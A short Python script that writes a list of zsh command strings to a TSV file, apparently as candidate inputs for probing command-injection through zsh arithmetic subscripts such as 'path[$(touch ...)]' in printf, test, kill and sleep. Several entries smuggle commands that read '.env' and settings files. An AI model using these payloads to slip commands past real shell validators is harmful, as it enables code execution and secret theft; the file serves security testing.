C=[]
def a(cls,*ls):
    for l in ls: C.append((cls,l))
T="touch @M@/pwned"
a("zsh-subscript", f"printf '%d' 'path[$({T})]'", f"printf '%i\\n' 'path[$({T})]'", f"printf '%x' 'path[$({T})]'", f"printf '%o' 'path[$({T})]'", f"printf '%u' 'path[$({T})]'",
  f"printf '%f' 'path[$({T})]'", f"printf '%e' 'path[$({T})]'", f"printf '%g' 'path[$({T})]'", f"printf '%.*s' 'path[$({T})]' x", f"printf '%*d' 'path[$({T})]' 1",
  f"test -t 'path[$({T})]'", f"[ -t 'path[$({T})]' ]", f"[[ -t 'path[$({T})]' ]]", "printf '%d' 'path[$(./pwn)]'", "test -t 'path[$(./pwn)]'", f"printf '%d' '1+path[$({T})]'",
  f"printf '%d\\n' 42 'path[$({T})]'", f"printf '%s %d\\n' a 'path[$({T})]'", f"printf '%d' 'fpath[$({T})]'", f"printf '%d' 'argv[$({T})]'", f"printf '%d' 'cdpath[$({T})]'",
  f"printf '%d' 'pipestatus[$({T})]'", f"printf '%d' 'path[`{T}`]'", f"test -t \"path[\\$({T})]\"", f"printf '%c' 'path[$({T})]'",
  "printf '%d' 'path[$(cat vendor/settings.ini >&2)]'", "printf '%d' 'path[$(cat .env >&2)]'", f"test 1 -eq 'path[$({T})]'", f"[ 'path[$({T})]' -lt 2 ]", f"[[ 'path[$({T})]' -eq 1 ]]",
  f"kill -s 0 'path[$({T})]'", f"ulimit -t 'path[$({T})]'", f"shift 'path[$({T})]'", f"read -t 'path[$({T})]' x < README.md", f"sleep 'path[$({T})]'", f"echo $(( 'path[$({T})]' ))")
a("zsh-arith", "printf '%d' DATABASE_URL", "test -t DATABASE_URL", "printf '%d' LESSOPEN", "printf '%d' LESSCLOSE", "test -t LESSOPEN", "printf '%d' NODE_OPTIONS", "printf '%d' JAVA_TOOL_OPTIONS", "printf '%d' LD_LIBRARY_PATH")
with open("cands5.tsv","w") as f:
    for c,l in C: f.write(f"{c}\t{l}\n")
print(len(C))
